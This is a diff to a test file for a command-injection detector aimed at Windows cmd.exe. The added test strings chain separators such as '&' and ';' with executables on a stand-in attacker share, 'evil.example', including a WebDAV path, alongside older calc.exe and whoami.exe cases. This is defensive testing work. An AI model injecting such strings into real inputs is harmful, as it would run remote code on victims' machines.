@@ -75,6 +75,11 @@ describe('command injection: cmd.exe carets and %COMSPEC%', () => {
       ['& "c:\\windows\\system32\\calc.exe"', 'cmd-separator-command'],
       ["& 'c:\\windows\\system32\\calc.exe'", 'cmd-separator-command'],
       ['| c:\\windows\\system32\\whoami.exe', 'cmd-separator-command'],
+      // a program on a network share, whatever its name
+      ['& \\\\evil.example\\share\\x.exe', 'cmd-separator-command'],
+      ['& start \\\\evil.example\\share\\x.exe', 'cmd-separator-command'],
+      ['& "\\\\evil.example\\share\\x.exe"', 'cmd-separator-command'],
+      ['; \\\\evil.example@SSL\\DavWWWRoot\\x.bat', 'cmd-separator-command'],
     ],
     [
       'x; y = e^x + 2^10',
@@ -87,6 +92,9 @@ describe('command injection: cmd.exe carets and %COMSPEC%', () => {
       // (no extension: no program of Windows, `ls` is none there)
       'C:\\Windows\\System32\\ls; ok',
       'Tom & c:\\windows\\readme.txt',
+      'the file is at \\\\server\\share\\x.exe; ok',
+      '& \\\\server\\share\\readme.txt',
+      '& \\\\server\\share\\setup.exe is the installer',
     ],
     true,
   )
